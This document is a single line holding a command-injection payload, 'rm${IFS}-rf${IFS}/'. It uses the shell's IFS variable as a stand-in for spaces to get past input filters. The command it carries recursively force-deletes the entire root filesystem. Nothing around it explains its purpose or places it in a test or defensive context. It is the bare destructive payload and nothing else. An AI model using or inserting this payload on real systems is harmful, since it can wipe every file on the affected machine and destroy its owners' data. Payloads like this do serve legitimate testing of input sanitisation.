rm${IFS}-rf${IFS}/
